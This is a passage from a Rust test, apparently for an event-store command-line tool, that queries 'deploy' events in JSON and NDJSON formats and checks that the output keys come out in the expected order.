    assert!(status.success());
    let deploys = ["query", "--event-type", "deploy", "--format"];
    let out = store.run(&[&deploys[..], &["json"]].concat(), b"");
    out.expect_code(0);
    let body: Value = serde_json::from_str(&out.stdout).unwrap();
    assert_eq!(key_order(&body["events"][0]), want);
    let out = store.run(&[&deploys[..], &["ndjson"]].concat(), b"");
    let line: Value = serde_json::from_str(out.stdout.trim()).unwrap();
    assert_eq!(key_order(&line), want);
}
